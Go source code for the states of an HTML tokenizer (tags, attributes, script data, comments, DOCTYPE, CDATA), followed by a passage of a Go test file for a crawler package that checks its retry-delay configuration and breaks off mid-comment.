	// Fast path: most tag names are a single lowercase run ending at a
	// terminator, which commits as a zero-copy view of the input. The slow
	// buffer only exists once a byte needs folding or replacement.
	start := z.pos
	var slow []byte
	for {
		z.scanTable(tagNameSafe)
		end := z.pos
		r := z.next()
		switch {
		case isWhitespace(r):
			z.commitTagName(slow, start, end)
			z.state = stateBeforeAttributeName
			return
		case r == '/':
			z.commitTagName(slow, start, end)
			z.state = stateSelfClosingStartTag
			return
		case r == '>':
			z.commitTagName(slow, start, end)
			z.state = stateData
			z.emitCurrentTag()
			return
		case r == 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			slow = append(slow, z.input[start:end]...)
			slow = utf8.AppendRune(slow, '�')
			start = z.pos
		case r == eofRune:
			z.parseError(ErrEOFInTag, "")
			z.emitEOF()
			return
		default:
			slow = append(slow, z.input[start:end]...)
			slow = utf8.AppendRune(slow, toLowerRune(r))
			start = z.pos
		}
	}
}

func (z *Tokenizer) commitTagName(slow []byte, start, end int) {
	if slow == nil {
		z.cur.Data = zcString(z.input[start:end])
		return
	}
	z.cur.Data = string(append(slow, z.input[start:end]...))
}

// rawLessThanState handles the "< in RCDATA/RAWTEXT" states.
func (z *Tokenizer) rawLessThanState(content, endTagOpen state) {
	if z.next() == '/' {
		z.tmpBuf = z.tmpBuf[:0]
		z.state = endTagOpen
		return
	}
	z.appendText('<')
	z.back()
	z.state = content
}

func (z *Tokenizer) rawEndTagOpenState(content, endTagName state) {
	if r := z.next(); isASCIIAlpha(r) {
		z.newTag(EndTagToken)
		z.back()
		z.state = endTagName
		return
	}
	z.appendTextString("</")
	z.back()
	z.state = content
}

func (z *Tokenizer) rawEndTagNameState(content state) {
	for {
		r := z.next()
		switch {
		case isWhitespace(r) && z.appropriateEndTag():
			z.state = stateBeforeAttributeName
			return
		case r == '/' && z.appropriateEndTag():
			z.state = stateSelfClosingStartTag
			return
		case r == '>' && z.appropriateEndTag():
			z.state = stateData
			z.emitCurrentTag()
			return
		case isASCIIAlpha(r):
			z.cur.Data += string(toLowerRune(r))
			z.tmpBuf = utf8.AppendRune(z.tmpBuf, r)
		default:
			z.appendTextString("</")
			z.appendTextString(string(z.tmpBuf))
			z.back()
			z.state = content
			return
		}
	}
}

func (z *Tokenizer) scriptDataLessThanState() {
	switch r := z.next(); r {
	case '/':
		z.tmpBuf = z.tmpBuf[:0]
		z.state = stateScriptDataEndTagOpen
	case '!':
		z.state = stateScriptDataEscapeStart
		z.appendTextString("<!")
	default:
		z.appendText('<')
		z.back()
		z.state = stateScriptData
	}
}

func (z *Tokenizer) scriptDataEscapeStartState() {
	if z.next() == '-' {
		z.state = stateScriptDataEscapeStartDash
		z.appendText('-')
		return
	}
	z.back()
	z.state = stateScriptData
}

func (z *Tokenizer) scriptDataEscapeStartDashState() {
	if z.next() == '-' {
		z.state = stateScriptDataEscapedDashDash
		z.appendText('-')
		return
	}
	z.back()
	z.state = stateScriptData
}

func (z *Tokenizer) scriptDataEscapedState() {
	switch r := z.next(); r {
	case '-':
		z.state = stateScriptDataEscapedDash
		z.appendText('-')
	case '<':
		z.state = stateScriptDataEscapedLessThan
	case 0:
		z.parseError(ErrUnexpectedNullCharacter, "")
		z.appendText('�')
	case eofRune:
		z.parseError(ErrEOFInScriptHTMLCommentLikeText, "")
		z.emitEOF()
	default:
		z.appendText(r)
	}
}

func (z *Tokenizer) scriptDataEscapedDashState() {
	switch r := z.next(); r {
	case '-':
		z.state = stateScriptDataEscapedDashDash
		z.appendText('-')
	case '<':
		z.state = stateScriptDataEscapedLessThan
	case 0:
		z.parseError(ErrUnexpectedNullCharacter, "")
		z.state = stateScriptDataEscaped
		z.appendText('�')
	case eofRune:
		z.parseError(ErrEOFInScriptHTMLCommentLikeText, "")
		z.emitEOF()
	default:
		z.state = stateScriptDataEscaped
		z.appendText(r)
	}
}

func (z *Tokenizer) scriptDataEscapedDashDashState() {
	switch r := z.next(); r {
	case '-':
		z.appendText('-')
	case '<':
		z.state = stateScriptDataEscapedLessThan
	case '>':
		z.state = stateScriptData
		z.appendText('>')
	case 0:
		z.parseError(ErrUnexpectedNullCharacter, "")
		z.state = stateScriptDataEscaped
		z.appendText('�')
	case eofRune:
		z.parseError(ErrEOFInScriptHTMLCommentLikeText, "")
		z.emitEOF()
	default:
		z.state = stateScriptDataEscaped
		z.appendText(r)
	}
}

func (z *Tokenizer) scriptDataEscapedLessThanState() {
	switch r := z.next(); {
	case r == '/':
		z.tmpBuf = z.tmpBuf[:0]
		z.state = stateScriptDataEscapedEndTagOpen
	case isASCIIAlpha(r):
		z.tmpBuf = z.tmpBuf[:0]
		z.appendText('<')
		z.back()
		z.state = stateScriptDataDoubleEscapeStart
	default:
		z.appendText('<')
		z.back()
		z.state = stateScriptDataEscaped
	}
}

func (z *Tokenizer) scriptDataDoubleEscapeStartState() {
	r := z.next()
	switch {
	case isWhitespace(r) || r == '/' || r == '>':
		if string(z.tmpBuf) == "script" {
			z.state = stateScriptDataDoubleEscaped
		} else {
			z.state = stateScriptDataEscaped
		}
		z.appendText(r)
	case isASCIIAlpha(r):
		z.tmpBuf = utf8.AppendRune(z.tmpBuf, toLowerRune(r))
		z.appendText(r)
	default:
		z.back()
		z.state = stateScriptDataEscaped
	}
}

func (z *Tokenizer) scriptDataDoubleEscapedState() {
	switch r := z.next(); r {
	case '-':
		z.state = stateScriptDataDoubleEscapedDash
		z.appendText('-')
	case '<':
		z.state = stateScriptDataDoubleEscapedLessThan
		z.appendText('<')
	case 0:
		z.parseError(ErrUnexpectedNullCharacter, "")
		z.appendText('�')
	case eofRune:
		z.parseError(ErrEOFInScriptHTMLCommentLikeText, "")
		z.emitEOF()
	default:
		z.appendText(r)
	}
}

func (z *Tokenizer) scriptDataDoubleEscapedDashState() {
	switch r := z.next(); r {
	case '-':
		z.state = stateScriptDataDoubleEscapedDashDash
		z.appendText('-')
	case '<':
		z.state = stateScriptDataDoubleEscapedLessThan
		z.appendText('<')
	case 0:
		z.parseError(ErrUnexpectedNullCharacter, "")
		z.state = stateScriptDataDoubleEscaped
		z.appendText('�')
	case eofRune:
		z.parseError(ErrEOFInScriptHTMLCommentLikeText, "")
		z.emitEOF()
	default:
		z.state = stateScriptDataDoubleEscaped
		z.appendText(r)
	}
}

func (z *Tokenizer) scriptDataDoubleEscapedDashDashState() {
	switch r := z.next(); r {
	case '-':
		z.appendText('-')
	case '<':
		z.state = stateScriptDataDoubleEscapedLessThan
		z.appendText('<')
	case '>':
		z.state = stateScriptData
		z.appendText('>')
	case 0:
		z.parseError(ErrUnexpectedNullCharacter, "")
		z.state = stateScriptDataDoubleEscaped
		z.appendText('�')
	case eofRune:
		z.parseError(ErrEOFInScriptHTMLCommentLikeText, "")
		z.emitEOF()
	default:
		z.state = stateScriptDataDoubleEscaped
		z.appendText(r)
	}
}

func (z *Tokenizer) scriptDataDoubleEscapedLessThanState() {
	if z.next() == '/' {
		z.tmpBuf = z.tmpBuf[:0]
		z.state = stateScriptDataDoubleEscapeEnd
		z.appendText('/')
		return
	}
	z.back()
	z.state = stateScriptDataDoubleEscaped
}

func (z *Tokenizer) scriptDataDoubleEscapeEndState() {
	r := z.next()
	switch {
	case isWhitespace(r) || r == '/' || r == '>':
		if string(z.tmpBuf) == "script" {
			z.state = stateScriptDataEscaped
		} else {
			z.state = stateScriptDataDoubleEscaped
		}
		z.appendText(r)
	case isASCIIAlpha(r):
		z.tmpBuf = utf8.AppendRune(z.tmpBuf, toLowerRune(r))
		z.appendText(r)
	default:
		z.back()
		z.state = stateScriptDataDoubleEscaped
	}
}

func (z *Tokenizer) beforeAttributeNameState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
			// ignore
		case r == '/' || r == '>' || r == eofRune:
			z.back()
			z.state = stateAfterAttributeName
			return
		case r == '=':
			z.parseError(ErrUnexpectedEqualsSignBeforeAttrName, "")
			z.startNewAttr()
			z.attrName = append(z.attrName, '=')
			z.state = stateAttributeName
			return
		default:
			z.startNewAttr()
			z.back()
			z.state = stateAttributeName
			return
		}
	}
}

func (z *Tokenizer) attributeNameState() {
	for {
		off := z.pos
		if chunk := z.scanTable(attrNameSafe); chunk != nil {
			z.appendNameChunk(off, len(chunk))
		}
		r := z.next()
		switch {
		case isWhitespace(r) || r == '/' || r == '>' || r == eofRune:
			z.back()
			z.state = stateAfterAttributeName
			return
		case r == '=':
			z.state = stateBeforeAttributeValue
			return
		case isASCIIUpper(r):
			z.materializeNameSpan()
			z.attrName = utf8.AppendRune(z.attrName, toLowerRune(r))
		case r == 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.materializeNameSpan()
			z.attrName = utf8.AppendRune(z.attrName, '�')
		case r == '"' || r == '\'' || r == '<':
			z.parseError(ErrUnexpectedCharacterInAttributeName, string(r))
			z.materializeNameSpan()
			z.attrName = utf8.AppendRune(z.attrName, r)
		default:
			z.materializeNameSpan()
			z.attrName = utf8.AppendRune(z.attrName, r)
		}
	}
}

func (z *Tokenizer) afterAttributeNameState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
			// ignore
		case r == '/':
			z.finishAttr()
			z.state = stateSelfClosingStartTag
			return
		case r == '=':
			z.state = stateBeforeAttributeValue
			return
		case r == '>':
			z.finishAttr()
			z.state = stateData
			z.emitCurrentTag()
			return
		case r == eofRune:
			z.parseError(ErrEOFInTag, "")
			z.emitEOF()
			return
		default:
			z.finishAttr()
			z.startNewAttr()
			z.back()
			z.state = stateAttributeName
			return
		}
	}
}

func (z *Tokenizer) beforeAttributeValueState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
			// ignore
		case r == '"':
			z.attrQuote = '"'
			z.state = stateAttributeValueDoubleQuoted
			return
		case r == '\'':
			z.attrQuote = '\''
			z.state = stateAttributeValueSingleQuoted
			return
		case r == '>':
			z.parseError(ErrMissingAttributeValue, string(z.attrName))
			z.finishAttr()
			z.state = stateData
			z.emitCurrentTag()
			return
		default:
			z.back()
			z.state = stateAttributeValueUnquoted
			return
		}
	}
}

func (z *Tokenizer) attributeValueQuotedState(quote rune) {
	for {
		off := z.pos
		if chunk := z.scanUntil(byte(quote), '&'); chunk != nil {
			z.appendValueChunk(off, len(chunk))
		}
		r := z.next()
		switch {
		case r == quote:
			z.finishAttr()
			z.state = stateAfterAttributeValueQuoted
			return
		case r == '&':
			z.flushCharRefToAttr()
		case r == 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.materializeValSpan()
			z.attrValue = utf8.AppendRune(z.attrValue, '�')
			z.attrRaw = append(z.attrRaw, 0)
		case r == eofRune:
			z.parseError(ErrEOFInTag, "")
			z.emitEOF()
			return
		default:
			z.materializeValSpan()
			z.attrValue = utf8.AppendRune(z.attrValue, r)
			z.attrRaw = utf8.AppendRune(z.attrRaw, r)
		}
	}
}

func (z *Tokenizer) attributeValueUnquotedState() {
	for {
		off := z.pos
		if chunk := z.scanTable(unquotedValueSafe); chunk != nil {
			z.appendValueChunk(off, len(chunk))
		}
		r := z.next()
		switch {
		case isWhitespace(r):
			z.finishAttr()
			z.state = stateBeforeAttributeName
			return
		case r == '&':
			z.flushCharRefToAttr()
		case r == '>':
			z.finishAttr()
			z.state = stateData
			z.emitCurrentTag()
			return
		case r == 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.materializeValSpan()
			z.attrValue = utf8.AppendRune(z.attrValue, '�')
			z.attrRaw = append(z.attrRaw, 0)
		case r == '"' || r == '\'' || r == '<' || r == '=' || r == '`':
			z.parseError(ErrUnexpectedCharInUnquotedAttrValue, string(r))
			z.materializeValSpan()
			z.attrValue = utf8.AppendRune(z.attrValue, r)
			z.attrRaw = utf8.AppendRune(z.attrRaw, r)
		case r == eofRune:
			z.parseError(ErrEOFInTag, "")
			z.emitEOF()
			return
		default:
			z.materializeValSpan()
			z.attrValue = utf8.AppendRune(z.attrValue, r)
			z.attrRaw = utf8.AppendRune(z.attrRaw, r)
		}
	}
}

func (z *Tokenizer) afterAttributeValueQuotedState() {
	r := z.next()
	switch {
	case isWhitespace(r):
		z.state = stateBeforeAttributeName
	case r == '/':
		z.state = stateSelfClosingStartTag
	case r == '>':
		z.state = stateData
		z.emitCurrentTag()
	case r == eofRune:
		z.parseError(ErrEOFInTag, "")
		z.emitEOF()
	default:
		// The FB2 signal: two attributes with no whitespace between them.
		z.parseError(ErrMissingWhitespaceBetweenAttributes, "")
		z.back()
		z.state = stateBeforeAttributeName
	}
}

func (z *Tokenizer) selfClosingStartTagState() {
	r := z.next()
	switch {
	case r == '>':
		z.cur.SelfClosing = true
		z.state = stateData
		z.emitCurrentTag()
	case r == eofRune:
		z.parseError(ErrEOFInTag, "")
		z.emitEOF()
	default:
		// The FB1 signal: a solidus used as attribute separator.
		z.parseError(ErrUnexpectedSolidusInTag, "")
		z.back()
		z.state = stateBeforeAttributeName
	}
}

func (z *Tokenizer) bogusCommentState() {
	for {
		if chunk := z.scanUntil('>', '>'); chunk != nil {
			z.appendComment(chunk)
		}
		switch r := z.next(); r {
		case '>':
			z.state = stateData
			z.emit(z.cur)
			return
		case eofRune:
			z.emit(z.cur)
			z.emitEOF()
			return
		case 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.cur.Data += "�"
		default:
			z.cur.Data += string(r)
		}
	}
}

// appendComment grows the current comment token's data. The first chunk of
// a comment becomes a zero-copy view; later chunks (split by '-', '<' or
// replacements) fall back to concatenation, which comment syntax keeps rare.
func (z *Tokenizer) appendComment(chunk []byte) {
	if z.cur.Data == "" {
		z.cur.Data = zcString(chunk)
		return
	}
	z.cur.Data += string(chunk)
}

func (z *Tokenizer) markupDeclarationOpenState() {
	rest := z.input[z.pos:]
	switch {
	case len(rest) >= 2 && rest[0] == '-' && rest[1] == '-':
		z.advanceTo(z.pos + 2)
		z.cur = Token{Type: CommentToken, Pos: z.position()}
		z.state = stateCommentStart
	case len(rest) >= 7 && strings.EqualFold(string(rest[:7]), "doctype"):
		z.advanceTo(z.pos + 7)
		z.state = stateDoctype
	case len(rest) >= 7 && string(rest[:7]) == "[CDATA[":
		z.advanceTo(z.pos + 7)
		// Whether CDATA is legal depends on the adjusted current node being
		// in a foreign namespace; the tree builder owns that knowledge and
		// toggles AllowCDATA. Standalone, treat it as the spec's
		// cdata-in-html-content bogus comment.
		if z.AllowCDATA != nil && z.AllowCDATA() {
			z.state = stateCDATASection
		} else {
			z.parseError(ErrCDATAInHTMLContent, "")
			z.cur = Token{Type: CommentToken, Data: "[CDATA[", Pos: z.position()}
			z.state = stateBogusComment
		}
	default:
		z.parseError(ErrIncorrectlyOpenedComment, "")
		z.cur = Token{Type: CommentToken, Pos: z.position()}
		z.state = stateBogusComment
	}
}

func (z *Tokenizer) commentStartState() {
	switch r := z.next(); r {
	case '-':
		z.state = stateCommentStartDash
	case '>':
		z.parseError(ErrAbruptClosingOfEmptyComment, "")
		z.state = stateData
		z.emit(z.cur)
	default:
		z.back()
		z.state = stateComment
	}
}

func (z *Tokenizer) commentStartDashState() {
	switch r := z.next(); r {
	case '-':
		z.state = stateCommentEnd
	case '>':
		z.parseError(ErrAbruptClosingOfEmptyComment, "")
		z.state = stateData
		z.emit(z.cur)
	case eofRune:
		z.parseError(ErrEOFInComment, "")
		z.emit(z.cur)
		z.emitEOF()
	default:
		z.cur.Data += "-"
		z.back()
		z.state = stateComment
	}
}

func (z *Tokenizer) commentState() {
	for {
		if chunk := z.scanUntil('<', '-'); chunk != nil {
			z.appendComment(chunk)
		}
		switch r := z.next(); r {
		case '<':
			z.cur.Data += "<"
			z.state = stateCommentLessThan
			return
		case '-':
			z.state = stateCommentEndDash
			return
		case 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.cur.Data += "�"
		case eofRune:
			z.parseError(ErrEOFInComment, "")
			z.emit(z.cur)
			z.emitEOF()
			return
		default:
			z.cur.Data += string(r)
		}
	}
}

func (z *Tokenizer) commentLessThanState() {
	switch r := z.next(); r {
	case '!':
		z.cur.Data += "!"
		z.state = stateCommentLessThanBang
	case '<':
		z.cur.Data += "<"
	default:
		z.back()
		z.state = stateComment
	}
}

func (z *Tokenizer) commentLessThanBangState() {
	if z.next() == '-' {
		z.state = stateCommentLessThanBangDash
		return
	}
	z.back()
	z.state = stateComment
}

func (z *Tokenizer) commentLessThanBangDashState() {
	if z.next() == '-' {
		z.state = stateCommentLessThanBangDashDash
		return
	}
	z.back()
	z.state = stateCommentEndDash
}

func (z *Tokenizer) commentLessThanBangDashDashState() {
	r := z.next()
	if r != '>' && r != eofRune {
		z.parseError(ErrNestedComment, "")
	}
	z.back()
	z.state = stateCommentEnd
}

func (z *Tokenizer) commentEndDashState() {
	switch r := z.next(); r {
	case '-':
		z.state = stateCommentEnd
	case eofRune:
		z.parseError(ErrEOFInComment, "")
		z.emit(z.cur)
		z.emitEOF()
	default:
		z.cur.Data += "-"
		z.back()
		z.state = stateComment
	}
}

func (z *Tokenizer) commentEndState() {
	switch r := z.next(); r {
	case '>':
		z.state = stateData
		z.emit(z.cur)
	case '!':
		z.state = stateCommentEndBang
	case '-':
		z.cur.Data += "-"
	case eofRune:
		z.parseError(ErrEOFInComment, "")
		z.emit(z.cur)
		z.emitEOF()
	default:
		z.cur.Data += "--"
		z.back()
		z.state = stateComment
	}
}

func (z *Tokenizer) commentEndBangState() {
	switch r := z.next(); r {
	case '-':
		z.cur.Data += "--!"
		z.state = stateCommentEndDash
	case '>':
		z.parseError(ErrIncorrectlyClosedComment, "")
		z.state = stateData
		z.emit(z.cur)
	case eofRune:
		z.parseError(ErrEOFInComment, "")
		z.emit(z.cur)
		z.emitEOF()
	default:
		z.cur.Data += "--!"
		z.back()
		z.state = stateComment
	}
}

func (z *Tokenizer) doctypeState() {
	r := z.next()
	switch {
	case isWhitespace(r):
		z.state = stateBeforeDoctypeName
	case r == '>':
		z.back()
		z.state = stateBeforeDoctypeName
	case r == eofRune:
		z.parseError(ErrEOFInDoctype, "")
		z.emit(Token{Type: DoctypeToken, ForceQuirks: true, Pos: z.position()})
		z.emitEOF()
	default:
		z.parseError(ErrMissingWhitespaceBeforeDoctypeName, "")
		z.back()
		z.state = stateBeforeDoctypeName
	}
}

func (z *Tokenizer) beforeDoctypeNameState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
			// ignore
		case r == '>':
			z.parseError(ErrMissingDoctypeName, "")
			z.state = stateData
			z.emit(Token{Type: DoctypeToken, ForceQuirks: true, Pos: z.position()})
			return
		case r == eofRune:
			z.parseError(ErrEOFInDoctype, "")
			z.emit(Token{Type: DoctypeToken, ForceQuirks: true, Pos: z.position()})
			z.emitEOF()
			return
		case r == 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.cur = Token{Type: DoctypeToken, Data: "�", Pos: z.position()}
			z.state = stateDoctypeName
			return
		default:
			z.cur = Token{Type: DoctypeToken, Data: string(toLowerRune(r)), Pos: z.position()}
			z.state = stateDoctypeName
			return
		}
	}
}

func (z *Tokenizer) doctypeNameState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
			z.state = stateAfterDoctypeName
			return
		case r == '>':
			z.state = stateData
			z.emit(z.cur)
			return
		case r == 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.cur.Data += "�"
		case r == eofRune:
			z.parseError(ErrEOFInDoctype, "")
			z.cur.ForceQuirks = true
			z.emit(z.cur)
			z.emitEOF()
			return
		default:
			z.cur.Data += string(toLowerRune(r))
		}
	}
}

func (z *Tokenizer) afterDoctypeNameState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
			// ignore
		case r == '>':
			z.state = stateData
			z.emit(z.cur)
			return
		case r == eofRune:
			z.parseError(ErrEOFInDoctype, "")
			z.cur.ForceQuirks = true
			z.emit(z.cur)
			z.emitEOF()
			return
		default:
			rest := z.input[z.prevPos:]
			if len(rest) >= 6 && strings.EqualFold(string(rest[:6]), "public") {
				z.advanceTo(z.prevPos + 6)
				z.state = stateAfterDoctypePublicKeyword
				return
			}
			if len(rest) >= 6 && strings.EqualFold(string(rest[:6]), "system") {
				z.advanceTo(z.prevPos + 6)
				z.state = stateAfterDoctypeSystemKeyword
				return
			}
			z.parseError(ErrInvalidCharacterSequenceAfterDT, "")
			z.cur.ForceQuirks = true
			z.back()
			z.state = stateBogusDoctype
			return
		}
	}
}

func (z *Tokenizer) afterDoctypePublicKeywordState() {
	r := z.next()
	switch {
	case isWhitespace(r):
		z.state = stateBeforeDoctypePublicIdentifier
	case r == '"':
		z.parseError(ErrMissingWhitespaceAfterDoctypeKW, "")
		z.state = stateDoctypePublicIdentifierDoubleQuoted
	case r == '\'':
		z.parseError(ErrMissingWhitespaceAfterDoctypeKW, "")
		z.state = stateDoctypePublicIdentifierSingleQuoted
	case r == '>':
		z.parseError(ErrMissingDoctypePublicIdentifier, "")
		z.cur.ForceQuirks = true
		z.state = stateData
		z.emit(z.cur)
	case r == eofRune:
		z.parseError(ErrEOFInDoctype, "")
		z.cur.ForceQuirks = true
		z.emit(z.cur)
		z.emitEOF()
	default:
		z.parseError(ErrMissingQuoteBeforeDoctypePublicID, "")
		z.cur.ForceQuirks = true
		z.back()
		z.state = stateBogusDoctype
	}
}

func (z *Tokenizer) beforeDoctypePublicIdentifierState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
		case r == '"':
			z.state = stateDoctypePublicIdentifierDoubleQuoted
			return
		case r == '\'':
			z.state = stateDoctypePublicIdentifierSingleQuoted
			return
		case r == '>':
			z.parseError(ErrMissingDoctypePublicIdentifier, "")
			z.cur.ForceQuirks = true
			z.state = stateData
			z.emit(z.cur)
			return
		case r == eofRune:
			z.parseError(ErrEOFInDoctype, "")
			z.cur.ForceQuirks = true
			z.emit(z.cur)
			z.emitEOF()
			return
		default:
			z.parseError(ErrMissingQuoteBeforeDoctypePublicID, "")
			z.cur.ForceQuirks = true
			z.back()
			z.state = stateBogusDoctype
			return
		}
	}
}

func (z *Tokenizer) doctypePublicIdentifierState(quote rune) {
	for {
		r := z.next()
		switch {
		case r == quote:
			z.state = stateAfterDoctypePublicIdentifier
			return
		case r == 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.cur.PublicID += "�"
		case r == '>':
			z.parseError(ErrAbruptDoctypePublicIdentifier, "")
			z.cur.ForceQuirks = true
			z.state = stateData
			z.emit(z.cur)
			return
		case r == eofRune:
			z.parseError(ErrEOFInDoctype, "")
			z.cur.ForceQuirks = true
			z.emit(z.cur)
			z.emitEOF()
			return
		default:
			z.cur.PublicID += string(r)
		}
	}
}

func (z *Tokenizer) afterDoctypePublicIdentifierState() {
	r := z.next()
	switch {
	case isWhitespace(r):
		z.state = stateBetweenDoctypePublicAndSystemIdentifiers
	case r == '>':
		z.state = stateData
		z.emit(z.cur)
	case r == '"':
		z.parseError(ErrMissingWhitespaceBetweenDTIDs, "")
		z.state = stateDoctypeSystemIdentifierDoubleQuoted
	case r == '\'':
		z.parseError(ErrMissingWhitespaceBetweenDTIDs, "")
		z.state = stateDoctypeSystemIdentifierSingleQuoted
	case r == eofRune:
		z.parseError(ErrEOFInDoctype, "")
		z.cur.ForceQuirks = true
		z.emit(z.cur)
		z.emitEOF()
	default:
		z.parseError(ErrMissingQuoteBeforeDoctypeSystemID, "")
		z.cur.ForceQuirks = true
		z.back()
		z.state = stateBogusDoctype
	}
}

func (z *Tokenizer) betweenDoctypePublicAndSystemIdentifiersState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
		case r == '>':
			z.state = stateData
			z.emit(z.cur)
			return
		case r == '"':
			z.state = stateDoctypeSystemIdentifierDoubleQuoted
			return
		case r == '\'':
			z.state = stateDoctypeSystemIdentifierSingleQuoted
			return
		case r == eofRune:
			z.parseError(ErrEOFInDoctype, "")
			z.cur.ForceQuirks = true
			z.emit(z.cur)
			z.emitEOF()
			return
		default:
			z.parseError(ErrMissingQuoteBeforeDoctypeSystemID, "")
			z.cur.ForceQuirks = true
			z.back()
			z.state = stateBogusDoctype
			return
		}
	}
}

func (z *Tokenizer) afterDoctypeSystemKeywordState() {
	r := z.next()
	switch {
	case isWhitespace(r):
		z.state = stateBeforeDoctypeSystemIdentifier
	case r == '"':
		z.parseError(ErrMissingWhitespaceAfterDoctypeKW, "")
		z.state = stateDoctypeSystemIdentifierDoubleQuoted
	case r == '\'':
		z.parseError(ErrMissingWhitespaceAfterDoctypeKW, "")
		z.state = stateDoctypeSystemIdentifierSingleQuoted
	case r == '>':
		z.parseError(ErrMissingDoctypeSystemIdentifier, "")
		z.cur.ForceQuirks = true
		z.state = stateData
		z.emit(z.cur)
	case r == eofRune:
		z.parseError(ErrEOFInDoctype, "")
		z.cur.ForceQuirks = true
		z.emit(z.cur)
		z.emitEOF()
	default:
		z.parseError(ErrMissingQuoteBeforeDoctypeSystemID, "")
		z.cur.ForceQuirks = true
		z.back()
		z.state = stateBogusDoctype
	}
}

func (z *Tokenizer) beforeDoctypeSystemIdentifierState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
		case r == '"':
			z.state = stateDoctypeSystemIdentifierDoubleQuoted
			return
		case r == '\'':
			z.state = stateDoctypeSystemIdentifierSingleQuoted
			return
		case r == '>':
			z.parseError(ErrMissingDoctypeSystemIdentifier, "")
			z.cur.ForceQuirks = true
			z.state = stateData
			z.emit(z.cur)
			return
		case r == eofRune:
			z.parseError(ErrEOFInDoctype, "")
			z.cur.ForceQuirks = true
			z.emit(z.cur)
			z.emitEOF()
			return
		default:
			z.parseError(ErrMissingQuoteBeforeDoctypeSystemID, "")
			z.cur.ForceQuirks = true
			z.back()
			z.state = stateBogusDoctype
			return
		}
	}
}

func (z *Tokenizer) doctypeSystemIdentifierState(quote rune) {
	for {
		r := z.next()
		switch {
		case r == quote:
			z.state = stateAfterDoctypeSystemIdentifier
			return
		case r == 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.cur.SystemID += "�"
		case r == '>':
			z.parseError(ErrAbruptDoctypeSystemIdentifier, "")
			z.cur.ForceQuirks = true
			z.state = stateData
			z.emit(z.cur)
			return
		case r == eofRune:
			z.parseError(ErrEOFInDoctype, "")
			z.cur.ForceQuirks = true
			z.emit(z.cur)
			z.emitEOF()
			return
		default:
			z.cur.SystemID += string(r)
		}
	}
}

func (z *Tokenizer) afterDoctypeSystemIdentifierState() {
	for {
		r := z.next()
		switch {
		case isWhitespace(r):
		case r == '>':
			z.state = stateData
			z.emit(z.cur)
			return
		case r == eofRune:
			z.parseError(ErrEOFInDoctype, "")
			z.cur.ForceQuirks = true
			z.emit(z.cur)
			z.emitEOF()
			return
		default:
			z.parseError(ErrUnexpectedCharacterAfterDTSystemID, "")
			z.back()
			z.state = stateBogusDoctype
			return
		}
	}
}

func (z *Tokenizer) bogusDoctypeState() {
	for {
		r := z.next()
		switch r {
		case '>':
			z.state = stateData
			z.emit(z.cur)
			return
		case 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
		case eofRune:
			z.emit(z.cur)
			z.emitEOF()
			return
		}
	}
}

func (z *Tokenizer) cdataSectionState() {
	for {
		off, line, col := z.pos, z.line, z.col
		if chunk := z.scanUntil(']', ']'); chunk != nil {
			z.appendTextChunk(off, len(chunk), line, col)
		}
		switch r := z.next(); r {
		case ']':
			z.state = stateCDATASectionBracket
			return
		case eofRune:
			z.parseError(ErrEOFInCDATA, "")
			z.emitEOF()
			return
		default:
			// NUL reaches here (scanUntil always stops on it); CDATA carries
			// it through verbatim, matching the spec's lack of a tokenizer
			// error in this state.
			z.appendText(r)
		}
	}
}

func (z *Tokenizer) cdataSectionBracketState() {
	if z.next() == ']' {
		z.state = stateCDATASectionEnd
		return
	}
	z.appendText(']')
	z.back()
	z.state = stateCDATASection
}

func (z *Tokenizer) cdataSectionEndState() {
	switch r := z.next(); r {
	case ']':
		z.appendText(']')
	case '>':
		z.state = stateData
	default:
		z.appendTextString("]]")
		z.back()
		z.state = stateCDATASection
	}
}
