package crawler

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/resilience"
	"github.com/hvscan/hvscan/internal/store"
)

// TestNoDelaySentinel pins the Config.RetryDelay contract, the twin of
// TestNoRetriesSentinel: zero means the default of 50ms, and the
// NoDelay sentinel really disables sleeping — before it, tests asking
// for 0 silently got 50ms per retry.
func TestNoDelaySentinel(t *testing.T) {
	arch := testArchive(5, 2)
	cases := []struct {
		give time.Duration
		want time.Duration
	}{
		{NoDelay, 0},
		{-7 * time.Second, 0}, // any negative disables
		{0, 50 * time.Millisecond},
		{7 * time.Millisecond, 7 * time.Millisecond},
	}
	for _, c := range cases {
		p := New(arch, core.NewChecker(), store.New(), Config{RetryDelay: c.give})
		if p.cfg.RetryDelay != c.want || p.policy.BaseDelay != c.want {
			t.Errorf("RetryDelay %v: normalized to cfg=%v policy=%v, want %v",
				c.give, p.cfg.RetryDelay, p.policy.BaseDelay, c.want)
		}
	}

	// Behavioral check: a NoDelay pipeline retries without sleeping, so
	// a fully flaky archive still finishes fast.
	flaky := newFlaky(arch)
	p := New(flaky, core.NewChecker(), store.New(), Config{
		Workers: 2, PagesPerDomain: 2, Retries: 2, RetryDelay: NoDelay,
	})
	start := time.Now()
	if _, err := p.RunSnapshot(context.Background(), arch.Crawls()[0], arch.Generator().Universe()); err != nil {
		t.Fatal(err)
	}
	if flaky.faults == 0 {
		t.Fatal("no faults — vacuous")
	}
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Fatalf("NoDelay run took %v — the sentinel did not disable sleeping", elapsed)
	}
}

// failFetchArchive serves the index normally but permanently fails
